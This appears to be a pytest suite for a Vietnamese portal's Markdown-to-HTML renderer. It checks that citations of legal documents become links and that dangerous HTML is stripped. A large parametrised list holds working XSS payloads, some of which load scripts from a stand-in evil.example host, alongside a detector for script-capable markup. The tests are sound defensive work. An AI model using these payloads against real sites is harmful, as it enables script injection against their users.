"""Markdown to HTML: nothing dangerous gets through, whatever the proofreader said, and citations become links."""

from __future__ import annotations

import re
import unicodedata

import html5lib
import pytest

from portal.html_policy import TAGS
from portal.links import Targets
from portal.model import Citation
from portal.pictures.album import Picture
from portal.render import Renderer

PATH = "tin/2022/bai.md"
SLUG = "nghi-quyet-20-nq-tw-2022"
CITED = "Nghị quyết số 20-NQ/TW"
LINKED = f'<a class="ct" href="../../../van-ban/{SLUG}/">{CITED}</a>'

WRITTEN_BY_MARKDOWN = {"a", "blockquote", "h2", "h3", "h4", "h5", "h6", "input", "label", "picture", "pre", "source"}
HARMLESS = {"alt", "checked", "class", "colspan", "data-tabs", "datetime", "dir", "for", "height", "href", "id", "lang"}
HARMLESS |= {"loading", "name", "open", "rowspan", "scope", "src", "title", "type", "width"}
HARMLESS |= {"aria-label", "role", "tabindex"}

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    '<img src="x" alt="``onerror=alert(1)``">',
    '<img src="../../media/anh.png" srcset="//evil.example/x 2x" alt="x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css"</style>',
    '<form action="javascript:alert(1)"><button>x',
    "<label for=x>x</label><input type=text formaction=javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)">x</p>',
    "<b/onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>",
    "<time datetime=x onclick=alert(1)>",
    '<table><td background="javascript:alert(1)">x</table>',
    '<ul><li title="<script>">x',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    '<a href="javascript:alert(1)">x</a>',
    '<a\nhref="java&#10;script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](../../media/anh.png)',
    "![x](../../media/anh.png \"a' onerror='alert(1)\")",
    '[x](bai.md "t&quot; onclick=&quot;alert(1)")',
    '<https://vd.vn/"onmouseover=alert(1)>',
    "## <script>alert(1)</script>",
    "## x {onclick=alert(1)}",
    "x {: onclick=alert(1) }",
    '!!! note "<script>alert(1)</script>"\n    x',
    '??? danger "x" onclick="alert(1)"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    '*[HTX]: x" onmouseover="alert(1)\n\nHTX',
    "*[HTX]: <script>alert(1)</script>\n\nHTX",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "term\n:   <script>alert(1)</script>",
    "==<script>alert(1)</script>==",
    "~~<script>alert(1)</script>~~",
    "```html\n<script>alert(1)</script>\n```",
    '```{.x onclick="alert(1)"}\nx\n```',
    '```js title="<script>alert(1)</script>"\nx\n```',
    "/// caption\n<script>alert(1)</script>\n///",
    "x\n\n/// caption\n    attrs: {onclick: alert(1), id: x}\nx\n///",
    "x\n\n/// caption\n    attrs: {style: 'background:url(//evil.example)'}\nx\n///",
    "x\n\n/// figure-caption\n    attrs: {onmouseover: alert(1)}\nx\n///",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\ufdd0\ufde0\ufdd0<script>alert(1)</script>\ufdd1",
    "<sc\ufdd0ript>alert(1)</sc\ufdd0ript>",
    "<img src=x on\ufdd1error=alert(1)>",
    "[x](java\ufdd1script:alert(1))",
)


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    pages = {PATH: "tin/2022/bai/", "tin/2021/cu.md": "tin/2021/cu/", "gioi-thieu.md": "gioi-thieu/"}
    shown = Picture(
        "media/anh-1a.jpg", 800, 600, "webp", ((480, "media/anh-1a-480.webp"), (800, "media/anh-1a-800.webp"))
    )
    return Renderer(Targets(pages, {"media/anh.png"}, {"tin/2022/nhap.md"}), {"media/anh.png": shown})


def citations(text: str, written: str = CITED) -> list[Citation]:
    return [Citation(match.start(), match.end(), SLUG) for match in re.finditer(re.escape(written), text)]


def unwrapped(html: str) -> str:
    """Without the spans that keep a document's number on one line."""
    return re.sub(r'<span class="nb">(.*?)</span>', r"\1", html)


def dangers(html: str) -> list[str]:
    """What a browser could run or fetch in a piece of HTML, read as a browser reads it."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS | WRITTEN_BY_MARKDOWN:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in HARMLESS and not (element.tag == "source" and name in {"sizes", "srcset"}):
                found.append(f"<{element.tag} {name}>")
            if name == "srcset" and not all(one.split()[0].startswith("../../../media/") for one in value.split(",")):
                found.append(f"srcset={value}")
            if re.match(r"(?:javascript|vbscript|data|file):", re.sub(r"[\x00-\x20]", "", value).lower()):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_a_browser_could_run_reaches_a_page(renderer: Renderer, vector: str) -> None:
    assert dangers(renderer.markdown(PATH, vector)) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_neither_does_it_beside_a_citation(renderer: Renderer, vector: str) -> None:
    text = f"{CITED}\n\n{vector}\n\n{CITED}"
    html = renderer.markdown(PATH, text, citations(text))
    assert dangers(html) == []
    assert LINKED in unwrapped(html)


@pytest.mark.parametrize("vector", VECTORS)
def test_plain_text_stays_plain(renderer: Renderer, vector: str) -> None:
    text = f"{vector} {CITED}"
    html = renderer.cite(PATH, text, citations(text))
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    assert {element.tag for element in tree.iter()} <= {"DOCUMENT_FRAGMENT", "a", "span"}
    assert LINKED in unwrapped(html)


@pytest.mark.parametrize(
    "evil",
    [
        "<script>x</script>",
        "<img src=x onerror=x>",
        "<p style=x>",
        "<a href=' JavaScript:x'>",
        "<a href='java&#10;script:x'>",
        "<img src='data:image/png,'>",
        "<iframe></iframe>",
        "<svg></svg>",
    ],
)
def test_the_search_for_dangers_finds_each_of_them(evil: str) -> None:
    assert dangers(evil)


@pytest.mark.parametrize("scheme", ["https://vd.vn/a?b=1&c=2", "http://vd.vn/", "mailto:a@vd.vn", "tel:+84123", "#muc"])
def test_addresses_that_may_stay_do(renderer: Renderer, scheme: str) -> None:
    html = renderer.markdown(PATH, f"[x]({scheme})")
    assert f'href="{scheme.replace("&", "&amp;")}"' in html


def test_a_relative_link_to_a_file_becomes_the_address_of_its_page(renderer: Renderer) -> None:
    html = renderer.markdown(PATH, "[a](../2021/cu.md#muc) [b](../../gioi-thieu.md) ![c](../../media/anh.png)")
    assert 'href="../../../tin/2021/cu/#muc"' in html
    assert 'href="../../../gioi-thieu/"' in html
    assert 'src="../../../media/anh-1a.jpg"' in html


@pytest.mark.parametrize("target", ["nhap.md", "khong-co.md", "/tin/2021/cu/", "//evil.example/x", "../../../../x.md"])
def test_a_link_that_leads_nowhere_keeps_only_its_words(renderer: Renderer, target: str) -> None:
    assert renderer.markdown(PATH, f"[chữ]({target})") == "<p><a>chữ</a></p>"


def test_a_citation_is_linked_to_its_document(renderer: Renderer) -> None:
    text = f"Theo {CITED}, các HTX."
    assert unwrapped(renderer.markdown(PATH, text, citations(text))) == f"<p>Theo {LINKED}, các HTX.</p>"


@pytest.mark.parametrize(
    "text",
    [
        f"## Về {CITED} năm 2022",
        f"- {CITED}",
        f"> {CITED}",
        f"x[^1]\n\n[^1]: {CITED}",
        f'!!! note "{CITED}"\n    x',
        f"| a | b |\n|---|---|\n| c | {CITED} |",
        f"<div>{CITED}</div>",
        f"<span title='{CITED}'>x</span> {CITED}",
        f"<!-- {CITED} -->\n\n{CITED}",
    ],
)
def test_citations_are_linked_wherever_text_runs(renderer: Renderer, text: str) -> None:
    last = citations(text)[-1:]
    html = renderer.markdown(PATH, text, last)
    assert LINKED in unwrapped(html)
    assert html.count('class="ct"') == 1


@pytest.mark.parametrize(
    "text",
    [
        f"[{CITED}](../../gioi-thieu.md)",
        f"[xem **{CITED}** này](../../gioi-thieu.md)",
        f"![{CITED}](../../media/anh.png)",
        f'![x](../../media/anh.png "{CITED}")',
        f"[x][r]\n\n[r]: ../../gioi-thieu.md '{CITED}'",
        f"*[HTX]: {CITED}\n\nHTX",
        f"<abbr title='{CITED}'>x</abbr>",
        f"    {CITED}",
        f"- x\n\n        {CITED}",
        f"```\n{CITED}\n```",
        f"`{CITED}`",
    ],
)
def test_a_citation_is_no_link_inside_a_link_a_picture_an_attribute_or_code(renderer: Renderer, text: str) -> None:
    html = renderer.markdown(PATH, text, citations(text))
    assert html == renderer.markdown(PATH, text)
    assert 'class="ct"' not in html


def test_the_id_of_a_heading_does_not_depend_on_its_citations(renderer: Renderer) -> None:
    text = f"## Quán triệt ({CITED}) ở xã"
    html = renderer.markdown(PATH, text, citations(text))
    assert 'id="quan-triet-nghi-quyet-so-20-nq-tw-o-xa"' in html


@pytest.mark.parametrize("written", ["Nghị quyết **số 20-NQ/TW**", "Nghị quyết *số* 20-NQ/TW", "**Nghị quyết 20**"])
def test_emphasis_inside_a_citation_stays_inside_its_link(renderer: Renderer, written: str) -> None:
    html = renderer.markdown(PATH, f"Theo {written}.", citations(f"Theo {written}.", written))
    assert dangers(html) == []
    assert re.search(r'<a class="ct"[^>]*>.*<(em|strong)>.*</\1>.*</a>', html)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Nghị quyết **số 20-NQ/TW của** Đảng", "Nghị quyết **số 20-NQ/TW"),
        ("*Theo Nghị quyết số* 20-NQ/TW", "Nghị quyết số* 20-NQ/TW"),
    ],
)
def test_emphasis_that_crosses_the_edge_of_a_citation_leaves_no_broken_markup(
    renderer: Renderer, text: str, written: str
) -> None:
    assert renderer.markdown(PATH, text, citations(text, written)) == renderer.markdown(PATH, text)


def test_each_of_many_citations_leads_to_its_own_document(renderer: Renderer) -> None:
    text = " ".join(f"Nghị quyết {number}." for number in range(12))
    found = [Citation(match.start(), match.end(), f"nq-{match[1]}") for match in re.finditer(r"Nghị quyết (\d+)", text)]
    html = renderer.markdown(PATH, text, found)
    assert re.findall(r'van-ban/nq-(\d+)/">Nghị quyết (\d+)</a>', html) == [(str(n), str(n)) for n in range(12)]


def test_a_decomposed_body_gives_the_same_page_as_a_composed_one(renderer: Renderer) -> None:
    text = f"## Hợp tác xã\n\nTheo {CITED}, [giới thiệu](../../gioi-thieu.md)."
    decomposed = unicodedata.normalize("NFD", text)
    cited = citations(decomposed, unicodedata.normalize("NFD", CITED))
    assert len(cited) == 1
    assert renderer.markdown(PATH, decomposed, cited) == renderer.markdown(PATH, text, citations(text))


@pytest.mark.parametrize("stray", ["\ufdd0", "\ufdd1", "\ufdd0\ufde9\ufdd0x\ufdd1", "\ufde0", "\ufdef"])
def test_noncharacters_in_a_text_neither_break_a_build_nor_pose_as_citations(renderer: Renderer, stray: str) -> None:
    text = f"a{stray}b {CITED}"
    for html in (renderer.markdown(PATH, text, citations(text)), renderer.cite(PATH, text, citations(text))):
        assert html.count('class="ct"') == 1
        assert LINKED in unwrapped(html)
        assert not re.search("[\ufdd0-\ufdef]", html)
    assert not re.search("[\ufdd0-\ufdef]", renderer.markdown(PATH, f"a{stray}b"))


def test_aligned_tables_carry_classes_and_no_styles(renderer: Renderer) -> None:
    table = "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n"
    for text in (table, f"{table}\n<br>\n"):
        html = renderer.markdown(PATH, text)
        assert "style" not in html
        assert html.count('class="left"') == html.count('class="center"') == html.count('class="right"') == 2


def test_an_attribute_is_allowed_in_a_caption_only_where_html_may_have_it(renderer: Renderer) -> None:
    html = renderer.markdown(PATH, "x\n\n/// caption\n    attrs: {id: hinh-1, class: rong}\nChú thích\n///")
    assert 'id="hinh-1"' in html
    assert 'class="rong"' in html


def test_html_comments_are_removed(renderer: Renderer) -> None:
    assert "kín" not in renderer.markdown(PATH, "a\n\n<!-- kín -->\n\nb <!-- kín --> c")


def test_template_syntax_is_plain_text(renderer: Renderer) -> None:
    html = renderer.markdown(PATH, '{{ config.site_name }} {% raw %} --8<-- "x"')
    assert "{{ config.site_name }} {% raw %}" in html
    assert "--8&lt;--" in html


def test_one_text_leaves_nothing_behind_in_the_next(renderer: Renderer) -> None:
    before = renderer.markdown(PATH, "## Mục\n\nHTX [x][r] [^1]")
    renderer.markdown(PATH, "## Mục\n\n*[HTX]: Hợp tác xã\n\n[r]: ../../gioi-thieu.md\n\n[^1]: chú thích\n\n<b>HTX</b>")
    assert renderer.markdown(PATH, "## Mục\n\nHTX [x][r] [^1]") == before


def test_the_anchors_of_a_text_are_the_ids_of_its_headings(renderer: Renderer) -> None:
    assert renderer.anchors(PATH, "## Đồng Nai\n\nx\n\n### Quỹ hỗ trợ") == {"dong-nai", "quy-ho-tro"}


def test_a_citation_that_is_the_whole_text_is_linked(renderer: Renderer) -> None:
    assert unwrapped(renderer.markdown(PATH, CITED, citations(CITED))) == f"<p>{LINKED}</p>"
    assert unwrapped(renderer.cite(PATH, CITED, citations(CITED))) == LINKED
